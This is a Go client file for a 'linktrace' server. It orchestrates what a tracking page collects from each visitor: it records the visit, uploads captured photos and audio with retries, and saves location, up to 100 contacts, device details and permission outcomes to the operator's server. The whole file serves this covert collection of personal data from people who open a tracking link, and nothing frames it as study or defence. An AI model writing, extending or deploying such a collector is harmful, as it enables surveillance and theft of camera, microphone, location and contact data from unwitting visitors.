// Package client provides a Go client for the linktrace HTTP API,
// including the capture orchestration flow a tracking page performs.
package client

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"mime/multipart"
	"net/http"
	"net/textproto"
	"strings"
	"time"

	"github.com/krezek/linktrace/internal/models"
)

const (
	uploadAttempts = 2
	uploadBackoff  = 800 * time.Millisecond
	maxContacts    = 100
)

// Client talks to a linktrace server.
type Client struct {
	baseURL string
	http    *http.Client
}

// New creates a client for the server at baseURL.
func New(baseURL string, httpClient *http.Client) *Client {
	if httpClient == nil {
		httpClient = &http.Client{Timeout: 60 * time.Second}
	}
	return &Client{
		baseURL: strings.TrimRight(baseURL, "/"),
		http:    httpClient,
	}
}

// VisitResult is the server's response to a recorded visit.
type VisitResult struct {
	models.Link
	LastLogID string `json:"lastLogId"`
}

// RecordVisit registers a visit against the link and returns the link
// state, including the identifier of the log entry the visit produced.
func (c *Client) RecordVisit(ctx context.Context, pageID string, clientData map[string]any) (*VisitResult, error) {
	body, err := json.Marshal(clientData)
	if err != nil {
		return nil, fmt.Errorf("encode client data: %w", err)
	}

	var out VisitResult
	if err := c.doJSON(ctx, http.MethodPost, "/api/links/"+pageID+"/visit", body, &out); err != nil {
		return nil, err
	}
	return &out, nil
}

// CaptureResult is the server's response to a media capture upload.
type CaptureResult struct {
	Success bool   `json:"success"`
	URL     string `json:"url"`
	Type    string `json:"type"`
}

// UploadCapture sends a captured media file for the link. The upload is
// retried once on failure with a fixed backoff; the multipart body is
// rebuilt per attempt since it cannot be replayed.
func (c *Client) UploadCapture(ctx context.Context, pageID, logID, filename, mimeType string, data []byte) (*CaptureResult, error) {
	var lastErr error
	for attempt := 1; attempt <= uploadAttempts; attempt++ {
		if attempt > 1 {
			select {
			case <-time.After(uploadBackoff):
			case <-ctx.Done():
				return nil, ctx.Err()
			}
		}

		result, err := c.uploadOnce(ctx, pageID, logID, filename, mimeType, data)
		if err == nil {
			if result.URL == "" || !strings.HasPrefix(result.URL, "http") {
				lastErr = fmt.Errorf("capture upload returned invalid url %q", result.URL)
				continue
			}
			return result, nil
		}
		lastErr = err
	}
	return nil, fmt.Errorf("capture upload failed after %d attempts: %w", uploadAttempts, lastErr)
}

func (c *Client) uploadOnce(ctx context.Context, pageID, logID, filename, mimeType string, data []byte) (*CaptureResult, error) {
	var buf bytes.Buffer
	mw := multipart.NewWriter(&buf)

	hdr := textproto.MIMEHeader{}
	hdr.Set("Content-Disposition", fmt.Sprintf(`form-data; name="file"; filename=%q`, filename))
	if mimeType == "" {
		mimeType = "application/octet-stream"
	}
	hdr.Set("Content-Type", mimeType)
	part, err := mw.CreatePart(hdr)
	if err != nil {
		return nil, err
	}
	if _, err := part.Write(data); err != nil {
		return nil, err
	}
	if logID != "" {
		if err := mw.WriteField("logId", logID); err != nil {
			return nil, err
		}
	}
	if err := mw.Close(); err != nil {
		return nil, err
	}

	req, err := http.NewRequestWithContext(ctx, http.MethodPost, c.baseURL+"/api/capture/"+pageID, &buf)
	if err != nil {
		return nil, err
	}
	req.Header.Set("Content-Type", mw.FormDataContentType())

	resp, err := c.http.Do(req)
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()

	if resp.StatusCode != http.StatusOK {
		return nil, fmt.Errorf("capture upload: unexpected status %d", resp.StatusCode)
	}

	var out CaptureResult
	if err := json.NewDecoder(resp.Body).Decode(&out); err != nil {
		return nil, fmt.Errorf("decode capture response: %w", err)
	}
	return &out, nil
}

// MediaPayload is the collected page state saved at the end of a visit.
type MediaPayload struct {
	LogID       string             `json:"logId,omitempty"`
	ImageURL    string             `json:"imageUrl,omitempty"`
	AudioURL    string             `json:"audioUrl,omitempty"`
	Permissions map[string]string  `json:"permissions,omitempty"`
	Location    *models.Location   `json:"location,omitempty"`
	Contacts    []models.Contact   `json:"contacts,omitempty"`
	DeviceInfo  *models.DeviceInfo `json:"deviceInfo,omitempty"`
	CapturedAt  string             `json:"capturedAt,omitempty"`
}

// SaveMedia persists collected media URLs and metadata against a log entry.
func (c *Client) SaveMedia(ctx context.Context, pageID string, payload MediaPayload) error {
	if len(payload.Contacts) > maxContacts {
		payload.Contacts = payload.Contacts[:maxContacts]
	}

	body, err := json.Marshal(payload)
	if err != nil {
		return fmt.Errorf("encode media payload: %w", err)
	}
	return c.doJSON(ctx, http.MethodPost, "/api/links/"+pageID+"/save-media", body, nil)
}

// SavePermissions reports the page's permission prompt outcomes.
func (c *Client) SavePermissions(ctx context.Context, pageID, logID string, permissions map[string]string) error {
	body, err := json.Marshal(map[string]any{
		"logId":       logID,
		"permissions": permissions,
	})
	if err != nil {
		return err
	}
	return c.doJSON(ctx, http.MethodPost, "/api/permissions/"+pageID, body, nil)
}

// Capture pairs raw media bytes with their MIME type for SaveAll.
type Capture struct {
	Filename string
	MimeType string
	Data     []byte
}

// SaveAll runs the full capture flow: record the visit, upload any
// captures, then save the collected payload. The final save always runs;
// when an upload fails its URL is simply absent from the saved payload.
func (c *Client) SaveAll(ctx context.Context, pageID string, clientData map[string]any, payload MediaPayload, image, audio *Capture) (*VisitResult, error) {
	visit, err := c.RecordVisit(ctx, pageID, clientData)
	if err != nil {
		return nil, fmt.Errorf("record visit: %w", err)
	}
	payload.LogID = visit.LastLogID

	if image != nil {
		if res, upErr := c.UploadCapture(ctx, pageID, visit.LastLogID, image.Filename, image.MimeType, image.Data); upErr == nil {
			payload.ImageURL = res.URL
		}
	}
	if audio != nil {
		if res, upErr := c.UploadCapture(ctx, pageID, visit.LastLogID, audio.Filename, audio.MimeType, audio.Data); upErr == nil {
			payload.AudioURL = res.URL
		}
	}

	if err := c.SaveMedia(ctx, pageID, payload); err != nil {
		// Retry with a reduced payload so at least the URLs survive.
		fallback := MediaPayload{
			LogID:       payload.LogID,
			ImageURL:    payload.ImageURL,
			AudioURL:    payload.AudioURL,
			Permissions: payload.Permissions,
			CapturedAt:  payload.CapturedAt,
		}
		if err := c.SaveMedia(ctx, pageID, fallback); err != nil {
			return visit, fmt.Errorf("save media: %w", err)
		}
	}
	return visit, nil
}

func (c *Client) doJSON(ctx context.Context, method, path string, body []byte, out any) error {
	req, err := http.NewRequestWithContext(ctx, method, c.baseURL+path, bytes.NewReader(body))
	if err != nil {
		return err
	}
	req.Header.Set("Content-Type", "application/json")

	resp, err := c.http.Do(req)
	if err != nil {
		return err
	}
	defer resp.Body.Close()

	if resp.StatusCode != http.StatusOK && resp.StatusCode != http.StatusCreated {
		msg, _ := io.ReadAll(io.LimitReader(resp.Body, 4<<10))
		return fmt.Errorf("%s %s: status %d: %s", method, path, resp.StatusCode, strings.TrimSpace(string(msg)))
	}

	if out == nil {
		return nil
	}
	return json.NewDecoder(resp.Body).Decode(out)
}
